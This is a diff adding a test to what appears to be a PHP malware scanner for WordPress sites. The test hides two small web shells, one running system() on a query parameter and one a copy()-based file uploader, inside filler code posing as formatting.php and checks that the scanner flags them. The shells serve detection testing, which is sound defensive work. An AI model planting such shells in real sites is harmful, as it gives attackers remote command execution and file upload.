@@ -223,6 +223,25 @@ add_action('woocommerce_checkout_process', function () {
     const gateway = scan(BENIGN.find(([what]) => what.startsWith('a payment plugin'))![2], '/www/wp-content/plugins/pay/gateway.php');
     assert.ok(!gateway.findings.some((f) => f.rule === 'mamori:card-skimmer'), JSON.stringify(gateway.findings));
   });
+  it('S26R-23: a static property call and the minimal copy() uploader, injected into application files of 20 and 70 KB, stay malicious', () => {
+    const host = (kb: number) => {
+      const parts: string[] = [];
+      for (let i = 0; parts.join('').length < kb * 1024; i++) parts.push(`function wp_fmt_${i}($s, $n = ${i}) {\n\t$s = trim((string) $s);\n\treturn esc_html(strtolower($s)) . '-' . absint($n);\n}\n\n`);
+      return parts;
+    };
+    const shells = [
+      "class Reg { public static $fn = 'system'; }\n(Reg::$fn)($_GET['c']);\n",
+      "echo '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"x\"></form>';\nif (@copy($_FILES['x']['tmp_name'], $_FILES['x']['name'])) { echo 'ok'; }\n",
+    ];
+    for (const kb of [20, 70]) {
+      const parts = host(kb);
+      for (const shell of shells) {
+        const file = `<?php\n${parts.slice(0, parts.length >> 1).join('')}${shell}${parts.slice(parts.length >> 1).join('')}`;
+        const r = scan(file, '/www/wp-includes/formatting.php');
+        assert.equal(r.verdict, 'malicious', `${kb} KB: ${shell.slice(0, 40)}: ${JSON.stringify(r.findings.map((f) => `${f.rule} ${f.score}`))}`);
+      }
+    }
+  });
   it('ran every case', () => {
     assert.equal(MALICIOUS.length, 14);
     assert.equal(BENIGN.length, 15);
